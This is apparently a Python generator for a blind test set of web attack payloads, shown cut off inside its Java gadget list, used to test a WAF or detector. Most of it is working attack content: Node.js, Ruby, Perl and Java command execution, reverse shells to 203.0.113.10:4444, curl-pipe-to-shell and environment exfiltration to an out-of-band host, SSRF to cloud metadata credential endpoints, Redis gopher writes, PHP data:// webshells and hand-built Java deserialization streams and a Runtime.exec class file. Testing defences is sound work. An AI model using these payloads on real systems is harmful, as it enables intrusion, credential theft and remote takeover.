"""Blind set "hundredfiftyfourth": the generic (Node.js, SSRF, prototype pollution, Ruby, Perl, DoS, PHP data
scheme), Java and server-side template injection titles as they appear in publicly disclosed bug-bounty reports,
with benign requests that carry the same words innocently.

The angle: the proof-of-concept a hunter pastes into a real web application and then quotes in a disclosed report
(HackerOne / Bugcrowd / vendor-advisory style, recalled from memory): a search box, a profile field, a redirect or
callback parameter, a webhook or import URL, an avatar or attachment name, a JSON API body, a header. The payloads
are short and practical, often wrapped in the application's context (a value that closes the app's quote, a field
that already holds a legitimate prefix such as an e-mail, a date or a name, then the payload), and often the
second try after a first filter (case, encoding, another function, another sink). Out-of-band hosts are the
collaborator-style names hunters use (x.oast.me and similar). The comment above each list names the family and
its real target (interpreter, internal service, deserializer, template engine, product).

Families and sub-families:
  generic: nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip, javascript-prototype-pollution,
    ruby-injection, perl-injection, php-data-scheme
  java: java-class-names, java-process-spawn, java-serialization (ac ed 00 05 raw, percent-encoded, hex, base64
    rO0AB and gzipped), deserialization-gadgets, log4shell, expression-language (OGNL, SpEL, MVEL, JEXL, JSP EL),
    polymorphic-deserialization (XStream, XMLDecoder, fastjson, Jackson, SnakeYAML), class-loading, jsp-upload
  ssti: one sub-family per engine: jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars, pug,
    mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes the way a hunter reaches them (the search query
of /api/users, the admin search form with its csrf_token, a JSON profile or webhook body on /api/users, a cookie,
User-Agent, Referer, X-Api-Version, a parameter name, an XML body, a multipart field or an upload's file name, the
URL path), under the field names such reports name (q, name, bio, redirect_uri, webhook_url, callback, import_url,
avatar_url ...); once the way a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not
our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names,
as a query string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom
header or a cookie. Payloads that only work as a whole body (fastjson / Jackson JSON, XStream / XMLDecoder XML,
prototype-pollution JSON) go as that body; query-string pollution and parameter binding go unquoted as
`name=value`; raw Java serialization streams go percent-encoded (a str body cannot carry bytes); JSP upload
names go as multipart file names.

Authorship and independence: written for this repository from general knowledge of each attack family, the way
disclosed reports show them, and the detection titles alone; no WAF rule, engine source, ruleset regression test
or public payload list was read. The Java serialization streams (URLDNS, gadget-chain heads) and the class file
in the defineClass / TemplatesImpl payloads are built here byte by byte. Measured once on unchanged code;
deterministic (no clock, no randomness).
"""

from __future__ import annotations

import base64
import gzip
import struct
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import FORM, BlindSet, Put, Record, request
from .family_gen import _get, _json
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "hundredfiftyfourth"
OOB = "x.oast.me"   # the hunter's out-of-band interaction host

# ----------------------------------------------------------------------------------------------------------------
# Java serialization streams (ObjectOutputStream protocol 2), written with handle bookkeeping
STREAM_MAGIC = b"\xac\xed\x00\x05"


class _Stream:
    """A tiny ObjectOutputStream: strings and class descriptors are written once, then referenced by handle."""

    def __init__(self) -> None:
        self.out = bytearray(STREAM_MAGIC)
        self.handles: dict[tuple[str, str], int] = {}
        self.next_handle = 0x7E0000

    def _assign(self, key: tuple[str, str] | None = None) -> None:
        if key is not None:
            self.handles[key] = self.next_handle
        self.next_handle += 1

    @staticmethod
    def _utf(text: str) -> bytes:
        raw = text.encode()
        return struct.pack(">H", len(raw)) + raw

    def string(self, text: str) -> None:
        if ("s", text) in self.handles:
            self.out += b"q" + struct.pack(">i", self.handles[("s", text)])
            return
        self.out += b"t" + self._utf(text)
        self._assign(("s", text))

    def desc(self, name: str, suid: int, flags: int, fields: list[tuple[str, str, str]]) -> None:
        """A class descriptor (fields: type code, field name, object type or ""), no superclass."""
        if ("c", name) in self.handles:
            self.out += b"q" + struct.pack(">i", self.handles[("c", name)])
            return
        self.out += b"r" + self._utf(name) + struct.pack(">q", suid) + bytes([flags]) + struct.pack(">H", len(fields))
        self._assign(("c", name))
        for code, fname, ftype in fields:
            self.out += code.encode() + self._utf(fname)
            if ftype:
                self.string(ftype)
        self.out += b"xp"

    def obj(self, name: str, suid: int, flags: int, fields: list[tuple[str, str, str]]) -> None:
        self.out += b"s"
        self.desc(name, suid, flags, fields)
        self._assign()


def _urldns(host: str) -> bytes:
    """URLDNS: a HashMap keyed by a java.net.URL whose cached hashCode is -1 (readObject resolves the host)."""
    s = _Stream()
    s.obj("java.util.HashMap", 0x0507DAC1C31660D1, 3, [("F", "loadFactor", ""), ("I", "threshold", "")])
    s.out += struct.pack(">fi", 0.75, 12) + b"w\x08" + struct.pack(">ii", 16, 1)
    string = "Ljava/lang/String;"
    s.obj("java.net.URL", -7627629688361524110, 3,
          [("I", "hashCode", ""), ("I", "port", ""), ("L", "authority", string), ("L", "file", string),
           ("L", "host", string), ("L", "protocol", string), ("L", "ref", string)])
    s.out += struct.pack(">ii", -1, -1)
    for value in (host, "", host, "http"):
        s.string(value)
    s.out += b"px"
    s.string("http://" + host)
    s.out += b"x"
    return bytes(s.out)


def _chain(links: list[tuple[str, str]], tail: str = "id") -> bytes:
    """The head of a gadget chain: each class holds the next in one object field; the last holds the command."""
    s = _Stream()
    for name, field in links:
        s.obj(name, 1, 2, [("L", field, "Ljava/lang/Object;")])
    s.string(tail)
    return bytes(s.out)


def _string_stream(text: str) -> bytes:
    s = _Stream()
    s.string(text)
    return bytes(s.out)


def _class_file(name: str, superclass: str, cmd: str) -> bytes:
    """A Java 6 class whose static initializer runs Runtime.getRuntime().exec(cmd), with a no-arg constructor."""
    def utf8(text: str) -> bytes:
        return b"\x01" + struct.pack(">H", len(text)) + text.encode()
    pool = [utf8(name), b"\x07\x00\x01", utf8(superclass), b"\x07\x00\x03", utf8("<clinit>"), utf8("()V"),
            utf8("Code"), utf8("java/lang/Runtime"), b"\x07\x00\x08", utf8("getRuntime"),
            utf8("()Ljava/lang/Runtime;"), b"\x0c\x00\x0a\x00\x0b", b"\x0a\x00\x09\x00\x0c", utf8("exec"),
            utf8("(Ljava/lang/String;)Ljava/lang/Process;"), b"\x0c\x00\x0e\x00\x0f", b"\x0a\x00\x09\x00\x10",
            utf8(cmd), b"\x08\x00\x12", utf8("<init>"), b"\x0c\x00\x14\x00\x06", b"\x0a\x00\x04\x00\x15"]
    clinit = b"\xb8\x00\x0d\x12\x13\xb6\x00\x11\x57\xb1"
    init = b"\x2a\xb7\x00\x16\xb1"

    def method(flags: int, mname: int, stack: int, local: int, code: bytes) -> bytes:
        body = struct.pack(">HHI", stack, local, len(code)) + code + b"\x00\x00\x00\x00"
        return struct.pack(">HHHHHI", flags, mname, 6, 1, 7, len(body)) + body
    return (b"\xca\xfe\xba\xbe\x00\x00\x00\x32" + struct.pack(">H", len(pool) + 1) + b"".join(pool)
            + struct.pack(">HHHHHH", 0x21, 2, 4, 0, 0, 2) + method(8, 5, 2, 0, clinit) + method(1, 20, 1, 1, init)
            + b"\x00\x00")


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _b64(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def _b64s(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


URLDNS_PROBE = _urldns("deser-probe." + OOB)
URLDNS_VIEWSTATE = _urldns("jsf-viewstate." + OOB)
URLDNS_COOKIE = _urldns("remember-me." + OOB)
CLASS_EXEC = _class_file("E", "java/lang/Object", "nslookup defineclass." + OOB)
CLASS_TRANSLET = _class_file("T", "com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet",
                             "curl http://templatesimpl." + OOB)

# ----------------------------------------------------------------------------------------------------------------
# Payloads. An entry is a payload string, or (payload, real placement, rs placement) when the payload only works in
# one kind of place.
Entry = str | tuple[str, str, str]

# --- generic ---------------------------------------------------------------------------------------------------
# Node.js: eval / Function / vm sinks in Express apps (a calculator, a "filter expression", a report builder),
# safe-eval / mathjs escapes, node-serialize cookies; target: the Node.js process
NODE_SER = '{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'ping -c1 ns.' + OOB + '\')}()"}'
NODEJS_INJECTION: list[Entry] = [
    "'+require('child_process').execSync('id')+'",
    "\";require('child_process').exec('curl https://" + OOB + "/?x=$(id)');//",
    "1;process.mainModule.require('child_process').execSync('nslookup nodeeval." + OOB + "')",
    "res.end(require('fs').readFileSync('/etc/passwd'))",
    NODE_SER,
    (_b64s(NODE_SER), "cookie", "rs-cookie"),
    "require('child_process').spawn('sh',['-c','id > /tmp/h1poc'])",
    'this.constructor.constructor("return process")().mainModule.require("child_process").execSync("id").toString()',
    "global.process.mainModule.require('child_process').exec('bash -c \"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1\"')",
    "require(`child_process`).execSync(`whoami`).toString()",
    "eval(\"require('child_process').execSync('uname -a').toString()\")",
    "new Function(\"return process.mainModule.require('child_process').execSync('hostname').toString()\")()",
    "require('vm').runInThisContext(\"process.mainModule.require('child_process').execSync('id')\")",
    "setTimeout(\"process.mainModule.require('child_process').exec('id')\",0)",
    "JSON.stringify(process.env)",
    "require('fs').writeFileSync('/tmp/h1-poc.txt','written by a bug bounty hunter')",
    "require('child_process').execFile('/bin/ls',['-la','/'],(e,o)=>res.send(o))",
    "hunter@wearehackerone.com'+process.mainModule.require('child_process').execSync('id')+'",
    "2024-01-01');require('child_process').exec('id');('",
    "module.require('child_process').execSync('cat /etc/passwd').toString()",
    "process.mainModule.constructor._load('child_process').execSync('id').toString()",
    "require('fs').readdirSync(__dirname).join()",
    "cos.constructor(\"return process.mainModule.require('child_process').execSync('id').toString()\")()",
    "this.constructor.constructor('return process')().env",
    "require('https').get('https://" + OOB + "/?k='+Buffer.from(JSON.stringify(process.env)).toString('base64'))",
    "import('child_process').then(m=>m.execSync('id').toString())",
]
# Node.js denial of service: eval sinks that take a loop or a huge allocation, and user-supplied regular
# expressions (search filters, MongoDB $regex) that backtrack; target: the single Node.js event loop
NODEJS_DOS: list[Entry] = [
    "while(true){}",
    "for(;;){}",
    "1;do{}while(1)",
    "new Array(1e9).fill('A').join('')",
    "Buffer.alloc(0x7fffffff)",
    "'a'.repeat(2**29)",
    "'x'.padEnd(1e9)",
    "[...Array(1e8)].map(()=>Math.random())",
    "process.nextTick(function f(){process.nextTick(f)})",
    "Promise.resolve().then(function loop(){return Promise.resolve().then(loop)})",
    "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)),0,0)",
    "require('fs').readFileSync('/dev/urandom')",
    "process.exit(1)",
    "new RegExp('(a|aa)+$').test('a'.repeat(40)+'b')",
    "^(a+)+$",
    "(\\w+\\s?)*$",
    ('{"name":{"$regex":"^(([a-z])+.)+[A-Z]([a-z])+$"}}', "json-body", "rs-json-body"),
    ('{"$where":"while(true){}"}', "json-body", "rs-json-body"),
]
# SSRF to cloud metadata: webhook, import-from-URL, avatar-from-URL and PDF-render features; target: the
# instance metadata services (AWS, GCP, Azure, Alibaba, DigitalOcean, Oracle, OpenStack, Tencent, Hetzner, ECS)
SSRF_CLOUD: list[Entry] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-default-ssm",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://169.254.169.254/latest/meta-data/public-keys/0/openssh-key",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/attributes/kube-env?alt=json",
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://169.254.169.254/computeMetadata/v1beta1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01"
    "&resource=https://management.azure.com/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v2/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    "http://metadata.tencentyun.com/latest/meta-data/",
    "http://169.254.169.254/hetzner/v1/metadata",
    "http://169.254.170.2/v2/metadata",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://2852039166/latest/meta-data/iam/",
    "http://0251.0376.0251.0376/latest/user-data",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "https://app.example.com@169.254.169.254/latest/meta-data/",
    "https://ssrf-redirect." + OOB + "/r?to=http://169.254.169.254/latest/meta-data/",
    "gopher://169.254.169.254:80/_PUT%20/latest/api/token%20HTTP/1.1%0d%0aHost:%20169.254.169.254%0d%0a"
    "X-aws-ec2-metadata-token-ttl-seconds:%2021600%0d%0a%0d%0a",
]
# SSRF to internal addresses: the same fetchers pointed at loopback and private services with the address forms
# that slip past a blocklist, and the non-HTTP schemes; target: internal HTTP services, Redis, SMTP, files
SSRF_INTERNAL: list[Entry] = [
    "http://127.0.0.1:8080/actuator/env",
    "http://localhost:9200/_cat/indices?v",
    "http://2130706433:8500/v1/agent/self",
    "http://0x7f.0x0.0x0.0x1/server-status",
    "http://017700000001:5984/_all_dbs",
    "http://127.1:6379/",
    "http://0/admin",
    "http://[::]:80/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]:2375/containers/json",
    "http://localtest.me/admin",
    "http://127.0.0.1.nip.io:8080/manager/html",
    "file:///etc/passwd",
    "file:///proc/self/environ",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A"
    "%2428%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20id%0A%0A%0D%0A",
    "dict://127.0.0.1:6379/info",
    "gopher://127.0.0.1:25/_HELO%20localhost%0D%0AMAIL%20FROM%3A%3Ch1%40example.com%3E%0D%0A",
    "http://10.0.0.1:10250/pods",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "http://172.17.0.1:2375/version",
    "http://127.0.0.1:11211#@cdn.example.com/",
    "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
    "http://0177.1:22/",
    "http://0.0.0.0:3000/api/admin/users",
    "http://[::1]:15672/api/overview",
    "netdoc:///etc/passwd",
    "http://192.168.0.1/cgi-bin/luci",
]
# Prototype pollution: query strings parsed by qs / deparam and JSON bodies merged by lodash.merge / $.extend /
# hoek, with the server-side detection gadgets (json spaces, status) and the known RCE gadgets (EJS, pug,
# child_process); target: Node.js objects and, client-side, the browser's DOM gadgets
POLLUTION: list[Entry] = [
    ("__proto__[polluted]=h1test", "query-raw", "rs-query-raw"),
    ("__proto__.polluted=h1test", "query-raw", "rs-query-raw"),
    ("constructor[prototype][polluted]=h1test", "query-raw", "rs-query-raw"),
    ("constructor.prototype.isAdmin=true", "form-raw", "rs-raw-body"),
    ("__proto__[innerHTML]=<img/src/onerror=alert(document.domain)>", "query-raw", "rs-query-raw"),
    ("__proto__[srcdoc][]=<script>alert(1)</script>", "query-raw", "rs-query-raw"),
    ("__proto__[transport_url]=data:,alert(1)//", "query-raw", "rs-query-raw"),
    ("x[__proto__][role]=admin", "form-raw", "rs-raw-body"),
    ("__pro__proto__to__[polluted]=1", "query-raw", "rs-query-raw"),
    ("__proto__[toString]=crash", "query-raw", "rs-raw-body"),
    ('{"email":"h@wearehackerone.com","__proto__":{"role":"admin"}}', "json-body", "rs-json-body"),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');x"}}',
     "json-body", "rs-json-body"),
    ('{"__proto__":{"shell":"node","NODE_OPTIONS":"--inspect=inspect.' + OOB + '"}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync(\'id\')"}}}',
     "json-body", "rs-json-body"),
    ('{"__proto__":{"json spaces":10}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"status":510}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"exposedHeaders":["x-h1-pp"]}}', "json-body", "rs-json-body"),
    ('{"settings":{"__proto__":{"polluted":"yes"}}}', "json-body", "rs-json-body"),
    ('{"a":{"constructor":{"prototype":{"polluted":"yes"}}}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"env":{"EVIL":"console.log(require(\'child_process\').execSync(\'id\').toString())//"},'
     '"NODE_OPTIONS":"--require /proc/self/environ"}}', "json-body", "rs-json-body"),
    ('{"__proto__":{"argv0":"node","shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
     "json-body", "rs-json-body"),
]
GEM_CHAIN = (
    "---\n- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
    "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
    "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
    "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
    "             git_set: id\n         method_id: :resolve\n")
# Ruby: string interpolation inside eval'd strings, Kernel#open / URI.open with a leading pipe (avatar and
# import URLs), YAML.load of user documents (the universal Gem chain, the Rails ERB proxy), send / public_send
# dispatch; target: the Ruby / Rails process
RUBY_INJECTION: list[Entry] = [
    "#{`id`}",
    "\"+`id`+\"",
    "'+%x(id)+'",
    "|id",
    "|curl https://" + OOB + "/$(whoami)",
    "| ls -la /",
    "system('id')",
    "Kernel.exec('id')",
    "%x(cat /etc/passwd)",
    "IO.popen('id').read",
    "require 'open3'; Open3.capture2('id')",
    "File.read('/etc/passwd')",
    "<%= system(\"id\") %>",
    GEM_CHAIN,
    "--- !ruby/object:ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\ninstance: !ruby/object:ERB\n"
    "  src: \"`id`\"\nmethod: :result\n",
    ("<hash><h1 type=\"yaml\">--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList"
     "\n  specs: []\n</h1></hash>", "xml", "rs-xml"),
    "instance_eval(\"`id`\")",
    "Kernel.send(:`, 'id')",
    "Kernel.open('|nslookup ruby." + OOB + "')",
    "John#{system('id')}",
    "#{File.read(\"/etc/passwd\")}",
    "Process.spawn('nc -e /bin/sh 203.0.113.10 4444')",
    "Object.const_get('Kernel').public_send(:system, 'id')",
]
# Perl: two-argument open() of a user file name in CGI scripts, eval of user text, qx / readpipe, the
# @{[ ]} interpolation trick; target: the Perl interpreter behind a CGI or mod_perl app
PERL_INJECTION: list[Entry] = [
    "|/bin/id|",
    "ls -la /|",
    "foo@bar.com|id|",
    "@{[ system \"id\" ]}",
    "${\\ `id`}",
    "qx{id}",
    "qx(cat /etc/passwd)",
    "exec('/bin/sh')",
    "eval{system(\"id\")}",
    "open(F,\"|id\")",
    "print readpipe(\"id\")",
    "use POSIX; POSIX::system(\"id\")",
    "use Socket;$i=\"203.0.113.10\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};",
    "open(my $f, '<', '/etc/passwd'); print <$f>;",
    "system qw(cat /etc/passwd)",
    "$x=~s/.*/`id`/ee",
    "\";system('id');#",
    "'.`id`.'",
]
# PHP data:// wrapper: include / file_get_contents of a "page", "template" or "lang" parameter;
# target: the PHP interpreter with allow_url_include
PHP_DATA: list[Entry] = [
    "data://text/plain;base64," + _b64s("<?php system($_GET['cmd']); ?>"),
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php echo shell_exec('id'); ?>",
    "data:;base64," + _b64s("<?php system('id');"),
    "data://text/plain;base64," + _b64s("<?=`$_GET[0]`?>"),
    "DATA://text/plain;base64," + _b64s("<?php passthru('uname -a'); ?>"),
    "data:text/html,<?php system('whoami');?>",
    "data://image/png;base64," + _b64s("GIF89a<?php system($_REQUEST['c']); ?>"),
    "php://filter/resource=data://text/plain,<?php phpinfo()?>",
    "data:text/plain;charset=utf-8;base64," + _b64s("<?php echo file_get_contents('/etc/passwd'); ?>"),
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8%2B",
    "data:,<?php passthru('id');?>",
    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
    "data:text/plain;base64," + _b64s("<?php echo md5('h1poc'); ?>"),
    "Data://Text/Plain,<?php print(`id`); ?>",
    "data:%2F%2Ftext/plain;base64," + _b64s("<?php system('id'); ?>"),
]

# --- java ------------------------------------------------------------------------------------------------------
# Java class names in expression and scripting sinks (report builders, rule engines, admin consoles);
# target: the JVM (Runtime, ProcessBuilder, ClassLoader, ScriptEngineManager and friends)
JAVA_CLASS_NAMES: list[Entry] = [
    "java.lang.Runtime.getRuntime().exec(\"curl http://" + OOB + "\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)",
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "java.lang.ClassLoader.getSystemClassLoader().loadClass(\"java.lang.Runtime\")",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    "java.lang.System.exit(0)",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/etc/passwd\"))",
    "new javax.naming.InitialContext().lookup(\"ldap://" + OOB + "/a\")",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "org.codehaus.groovy.runtime.ProcessGroovyMethods.execute(\"id\")",
    "Class.forName(\"java.lang.UNIXProcess\")",
    "Java.type(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
    "java.lang.invoke.MethodHandles.lookup().findStatic(Class.forName(\"java.lang.Runtime\"),\"getRuntime\","
    "java.lang.invoke.MethodType.methodType(Class.forName(\"java.lang.Runtime\")))",
    "new bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
    "new org.python.util.PythonInterpreter().exec(\"import os;os.system('id')\")",
    "java.lang.Runtime.getRuntime().halt(1)",
    "new java.io.File(\"/etc/passwd\").exists()",
    "javax.script.ScriptEngineManager",
]
# Process spawning from Java, Groovy (Jenkins script console), Scala, Kotlin and Clojure consoles and
# expression sinks; target: the JVM's process API
JAVA_SPAWN: list[Entry] = [
    "new ProcessBuilder(\"bash\",\"-c\",\"id>/tmp/h1\").start()",
    "new java.lang.ProcessBuilder(new String[]{\"/bin/sh\",\"-c\",\"curl " + OOB + "|sh\"}).start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.10/4444 0>&1\"})",
    "\"id\".execute().text",
    "['bash','-c','id'].execute().text",
    "def proc = \"cat /etc/passwd\".execute(); println proc.text",
    "Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
    "java.lang.Runtime.getRuntime().exec(\"ping -c 1 " + OOB + "\").waitFor()",
    "new ProcessBuilder(\"id\").redirectErrorStream(true).start().getInputStream()",
    "Runtime.getRuntime().exec(\"nslookup \"+System.getProperty(\"user.name\")+\"." + OOB + "\")",
    "ProcessBuilder pb = new ProcessBuilder(\"calc.exe\"); pb.start();",
    "Class.forName(\"java.lang.ProcessBuilder\").getConstructor(String[].class).newInstance(new Object[]{new String[]"
    "{\"id\"}}).start()",
    "import sys.process._; \"id\".!!",
    "ProcessBuilder(\"id\").start().inputStream.bufferedReader().readText()",
    "(clojure.java.shell/sh \"id\")",
    "node { sh 'id' }",
    "println new ProcessBuilder('sh','-c','uname -a').start().text",
]
# Java serialization streams: the magic bytes ac ed 00 05 as raw (percent-encoded) bytes, hex, base64 rO0AB and
# gzipped base64 in a JSF ViewState, a remember-me cookie or a JSON field; target: ObjectInputStream.readObject
JAVA_SERIALIZATION: list[Entry] = [
    (_latin(URLDNS_PROBE), "query", "rs-raw-body"),
    (_latin(URLDNS_COOKIE), "cookie", "rs-cookie"),
    (_latin(_string_stream("h1-deser-check")), "form", "rs-query"),
    (_latin(_urldns("deser-param." + OOB)), "param-name", "rs-form"),
    (URLDNS_PROBE.hex(), "query", "rs-form"),
    (_string_stream("id").hex(), "json", "rs-json"),
    (URLDNS_COOKIE.hex().upper(), "form", "rs-raw-body"),
    (_b64(URLDNS_PROBE), "json", "rs-json"),
    (_b64(URLDNS_COOKIE), "cookie", "rs-cookie"),
    (_b64(URLDNS_VIEWSTATE), "form", "rs-form"),
    ("javax.faces.ViewState=" + urllib.parse.quote(_b64(URLDNS_VIEWSTATE)), "form-raw", "rs-raw-body"),
    (_b64(gzip.compress(URLDNS_VIEWSTATE, mtime=0)), "form", "rs-form"),
    (base64.urlsafe_b64encode(URLDNS_PROBE).decode().rstrip("="), "query", "rs-query"),
    (urllib.parse.quote(_b64(URLDNS_COOKIE)), "query", "rs-query"),
    ("session=" + _b64(_string_stream("admin")), "header:X-Api-Version", "rs-header:X-Test-Header"),
    (_b64(_string_stream("h1-deser-check")), "header:Referer", "rs-header:User-Agent"),
]
CC = "org.apache.commons.collections.functors."
CC_HEAD = [("javax.management.BadAttributeValueExpException", "val"),
           ("org.apache.commons.collections.keyvalue.TiedMapEntry", "map"),
           ("org.apache.commons.collections.map.LazyMap", "factory"), (CC + "ChainedTransformer", "iTransformers"),
           (CC + "ConstantTransformer", "iConstant"), (CC + "InvokerTransformer", "iArgs")]
CC1_HEAD = [("sun.reflect.annotation.AnnotationInvocationHandler", "memberValues"),
            ("org.apache.commons.collections.map.LazyMap", "factory"), (CC + "ChainedTransformer", "iTransformers"),
            (CC + "InvokerTransformer", "iMethodName")]
CC4_HEAD = [("java.util.PriorityQueue", "comparator"),
            ("org.apache.commons.collections4.comparators.TransformingComparator", "transformer"),
            ("org.apache.commons.collections4.functors.InstantiateTransformer", "iArgs"),
            ("com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter", "_templates"),
            ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "_bytecodes")]
CB1_HEAD = [("java.util.PriorityQueue", "comparator"), ("org.apache.commons.beanutils.BeanComparator", "property"),
            ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "_name")]
SPRING1_HEAD = [("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", "provider"),
                ("org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                 "objectFactory"), ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "_name")]
GROOVY1_HEAD = [("sun.reflect.annotation.AnnotationInvocationHandler", "memberValues"),
                ("org.codehaus.groovy.runtime.ConvertedClosure", "delegate"),
                ("org.codehaus.groovy.runtime.MethodClosure", "method")]
JDK7U21_HEAD = [("java.util.LinkedHashSet", "map"), ("sun.reflect.annotation.AnnotationInvocationHandler", "type"),
                ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "_bytecodes")]
C3P0_HEAD = [("com.mchange.v2.c3p0.PoolBackedDataSource", "connectionPoolDataSource"),
             ("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized", "reference")]
ROME_HEAD = [("java.util.HashMap", "table"), ("com.sun.syndication.feed.impl.ObjectBean", "_equalsBean"),
             ("com.sun.syndication.feed.impl.ToStringBean", "_obj"),
             ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "_name")]
HIBERNATE_HEAD = [("org.hibernate.engine.spi.TypedValue", "type"),
                  ("org.hibernate.type.ComponentType", "componentTuplizer"),
                  ("org.hibernate.tuple.component.PojoComponentTuplizer", "getters"),
                  ("org.hibernate.property.BasicPropertyAccessor$BasicGetter", "method")]
JRMP_HEAD = [("java.rmi.server.RemoteObjectInvocationHandler", "ref"), ("sun.rmi.server.UnicastRef", "ref")]
# Deserialization gadget chains (ysoserial's CommonsCollections 1/4/5, CommonsBeanutils1, Spring1, Groovy1,
# Jdk7u21, C3P0, ROME, Hibernate1, JRMPClient) as a hunter pastes them: base64 in a cookie or field, percent-
# encoded raw in a body, and c3p0 hex inside Jackson JSON; target: readObject with those libraries on the classpath
GADGETS: list[Entry] = [
    (_b64(_chain(CC_HEAD, "nslookup cc5." + OOB)), "cookie", "rs-cookie"),
    (_latin(_chain(CC_HEAD, "touch /tmp/cc5")), "form", "rs-raw-body"),
    (_b64(_chain(CC1_HEAD, "curl http://cc1." + OOB)), "json", "rs-json"),
    (_latin(_chain(CC1_HEAD, "id")), "query", "rs-form"),
    (_b64(_chain(CC4_HEAD, "ping -c1 cc4." + OOB)), "form", "rs-form"),
    (_b64(_chain(CB1_HEAD, "nslookup cb1." + OOB)), "cookie", "rs-cookie"),
    (_latin(_chain(CB1_HEAD, "id")), "param-name", "rs-query"),
    (_b64(_chain(SPRING1_HEAD, "curl http://spring1." + OOB)), "json", "rs-json"),
    (_b64(_chain(GROOVY1_HEAD, "nslookup groovy1." + OOB)), "form", "rs-query"),
    (_latin(_chain(GROOVY1_HEAD, "id")), "cookie", "rs-raw-body"),
    (_b64(_chain(JDK7U21_HEAD, "nslookup jdk7u21." + OOB)), "query", "rs-form"),
    (_b64(_chain(C3P0_HEAD, "http://c3p0." + OOB + "/:Exploit")), "json", "rs-json"),
